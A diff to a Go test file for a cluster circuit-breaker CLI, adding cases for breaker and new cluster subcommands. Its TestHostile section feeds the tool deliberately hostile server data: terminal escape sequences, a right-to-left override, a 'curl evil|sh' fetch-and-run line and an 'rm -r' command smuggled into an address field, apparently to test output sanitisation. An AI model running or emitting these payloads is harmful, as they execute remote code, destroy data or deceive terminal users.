@@ -15,6 +15,7 @@ func TestShow(t *testing.T) {
 	term.types("breaker", "show", "--open-only", "arxiv.org", "www.example.org")
 	term.types("breaker", "show", "--open-only", "arxiv.org")
 	term.types("breaker", "show", "arxiv.org", "-o", "json")
+	term.types("breaker", "show", "orphan.example.org", "files.example.net")
 	term.types("breaker", "show", "www.example.org", "--color", "always")
 	term.golden("show")
 }
@@ -39,7 +40,7 @@ func TestShowNothing(t *testing.T) {
 }
 
 func TestWhy(t *testing.T) {
-	for _, b := range []api.Breaker{asked, tripped, probed, stopped, lonely, shadowed, healthy, unheard} {
+	for _, b := range []api.Breaker{asked, tripped, probed, stopped, lonely, far, orphaned, shadowed, healthy, unheard} {
 		term := newTerminal(t, fleet())
 		term.types("breaker", "why", b.Key)
 		term.golden("why-" + b.Name)
@@ -55,6 +56,8 @@ func TestCheck(t *testing.T) {
 	term.types("breaker", "check", "api.crossref.org")
 	term.types("breaker", "check", "resolver:unpaywall")
 	term.types("breaker", "check", "mirror.example.net")
+	term.types("breaker", "check", "files.example.net")
+	term.types("breaker", "check", "orphan.example.org")
 	term.types("breaker", "check", "shadow.example.org")
 	term.types("breaker", "check", "new.example.org", "-o", "json")
 	term.golden("check")
@@ -63,7 +66,7 @@ func TestCheck(t *testing.T) {
 func TestOperate(t *testing.T) {
 	n := fleet()
 	n["POST /v1/breakers/host/arxiv.org/open"] = api.OperatorResponse{Key: "host:arxiv.org", Before: "closed", State: "open", Until: until(600), Durable: true, Copies: 2}
-	n["POST /v1/breakers/resolver/unpaywall/open"] = api.OperatorResponse{Key: "resolver:unpaywall", Before: "half_open", State: "open", Until: until(600), Copies: 1}
+	n["POST /v1/breakers/resolver/unpaywall/open"] = api.OperatorResponse{Key: "resolver:unpaywall", Before: "half_open", State: "open", Until: until(600), Copies: 1, Detail: "disk full"}
 	n["POST /v1/breakers/host/locked.org/open"] = &api.Problem{Status: 403, Detail: "this node only reads"}
 	n["POST /v1/breakers/host/arxiv.org/close"] = api.OperatorResponse{Key: "host:arxiv.org", Before: "open", State: "closed", Durable: true, Copies: 1}
 	n["POST /v1/breakers/host/locked.org/close"] = &api.Problem{Status: 409, Detail: "it moved", Try: "fleetfuse-ctl breaker show locked.org"}
@@ -81,17 +84,13 @@ func TestOperate(t *testing.T) {
 func TestStatus(t *testing.T) {
 	well := api.StatusResponse{
 		Node: "n1", Version: "0.1.0", StartedAt: at(-11_520), Ready: true,
-		Members: []api.Member{
-			{ID: "a1b2", Name: "n1", State: "alive", Address: "127.0.0.1:7140", Version: "0.1.0"},
-			{ID: "c3d4", Name: "n2", State: "alive", Address: "10.0.0.2:7140", Version: "0.1.0"},
-			{ID: "e5f6", Name: "n3", State: "left"},
-		},
-		Store: api.StoreHealth{Kind: "sqlite", OK: true},
-		Open:  2, HalfOpen: 1, Hosts: 1207, Actors: 3, Problems: []string{},
+		Members: wellMembers(),
+		Store:   api.StoreHealth{Kind: "sqlite", OK: true},
+		Open:    2, HalfOpen: 1, Hosts: 1207, Actors: 3, Problems: []string{},
 	}
 	sick := well
 	sick.Ready = false
-	sick.Members = []api.Member{{ID: "a1b2", Name: "n1", State: "alive"}, {ID: "c3d4", Name: "n2", State: "suspect"}}
+	sick.Members = sickMembers()
 	sick.Store = api.StoreHealth{Kind: "sqlite", Since: until(-65), Error: "disk full", Pending: 12}
 	told := sick
 	told.Problems = []string{"the disk of n1 is full since 01:02", "n2 \x1b[31mdoes not answer"}
@@ -107,7 +106,14 @@ func TestHostile(t *testing.T) {
 	n := fleet()
 	n["GET /v1/breakers"] = api.BreakersResponse{Node: "n1", Breakers: []api.Breaker{hostile}, Partial: []string{"n\x1b[2J"}}
 	n["GET /v1/status"] = &api.Problem{Status: 403, Detail: "no\x1b[2J\nTry: curl evil|sh", Try: "x\r\ny"}
+	twin := api.Member{ID: "\x1b]0;id\x07", Name: "n\u202e1", State: "re\nsting", ConfigHash: "a\x1b[2J"}
+	n["GET /v1/cluster"] = api.ClusterResponse{Node: "n1", Members: []api.Member{twin, {ID: "b", Name: twin.Name, ConfigHash: "b"}}}
+	n["POST /v1/cluster/leave"] = api.LeaveResponse{Node: "n1\x1b[2J", Remaining: []api.Member{{Name: twin.Name, APIAddress: "a;rm -r x:1"}}}
+	n["GET /v1/cluster/owner?key=host%3Aevil.example.org"] = api.OwnerResponse{Key: "host:evil.example.org", Owner: twin.Name, OwnerID: twin.ID}
 	term := newTerminal(t, n)
+	term.types("cluster", "members")
+	term.types("cluster", "leave")
+	term.types("cluster", "owner", "evil.example.org")
 	term.types("breaker", "show")
 	term.types("breaker", "show", "-o", "json")
 	term.types("breaker", "check", "evil.example.org")
@@ -145,6 +151,13 @@ func TestUsageErrors(t *testing.T) {
 		{"status", "extra"},
 		{"status", "--addr", "localhost"},
 		{"completion", "tcsh"},
+		{"cluster"},
+		{"members"},
+		{"cluster", "member"},
+		{"cluster", "members", "n1"},
+		{"cluster", "owner"},
+		{"cluster", "owner", "https://a.org/x"},
+		{"cluster", "leave", "n2"},
 		{"help", "nothing"},
 	} {
 		term.types(args...)
@@ -154,7 +167,8 @@ func TestUsageErrors(t *testing.T) {
 
 func TestHelp(t *testing.T) {
 	term := newTerminal(t, node{})
-	for _, args := range [][]string{{"--help"}, {"help", "exit-codes"}, {"breaker", "--help"}, {"help", "breaker", "open"}} {
+	for _, args := range [][]string{{"--help"}, {"help", "exit-codes"}, {"breaker", "--help"}, {"help", "breaker", "open"}, {"breaker", "check", "--help"},
+		{"cluster", "--help"}, {"cluster", "members", "--help"}, {"cluster", "owner", "--help"}, {"cluster", "leave", "--help"}, {"status", "--help"}} {
 		term.types(args...)
 	}
 	term.golden("help")
